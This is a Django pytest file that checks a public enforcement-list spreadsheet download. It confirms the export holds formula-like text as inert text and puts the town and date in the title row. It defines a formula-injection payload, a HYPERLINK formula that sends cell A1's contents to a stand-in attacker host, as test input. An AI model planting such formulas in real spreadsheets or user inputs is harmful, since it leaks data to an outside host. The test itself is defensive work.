"""The public, login-free list download is written by the one spreadsheet writer: text a
spreadsheet could run (a reason typed as `=HYPERLINK(…)`) is held as text, the title row names
the town and the date (issue 11 item 8, issue 13 item 5)."""
import datetime as dt
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from catalog import services
from catalog.tests.factory import build_catalog
from core import audit
from core.testing.world import build_world

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_public_download_holds_formula_like_text_as_text():
    cat = build_catalog(build_world())
    town_list = cat.lists["b-enforcement"]
    with audit.acting_as(cat.reform, source="test"):
        services.list_version_record(item_list=town_list, effective_date=cat.start + dt.timedelta(days=1),
                                     entries=[{"item": "CG-CF-015", "op": "remove", "reason": "暂停"}],
                                     reason="暂停承接", user=cat.reform)
        services.list_version_record(item_list=town_list, effective_date=cat.start + dt.timedelta(days=2),
                                     entries=[{"item": "CG-CF-015", "op": "add", "reason": PAYLOAD}],
                                     reason="+恢复承接", user=cat.reform)
    r = Client().get("/public/lists/321002106000/enforcement.xlsx")
    assert r.status_code == 200 and "filename" in r["Content-Disposition"]
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = {ws.cell(n, 2).value: n for n in range(3, ws.max_row + 1)}
    cell = ws.cell(rows["CG-CF-015"], 8)
    assert cell.value == PAYLOAD and cell.data_type == "s" and cell.quotePrefix is True
    assert ws["A1"].value.startswith("湾头镇行政执法清单（") and "导出时间：" in ws["A1"].value
    assert ws.freeze_panes == "A3"
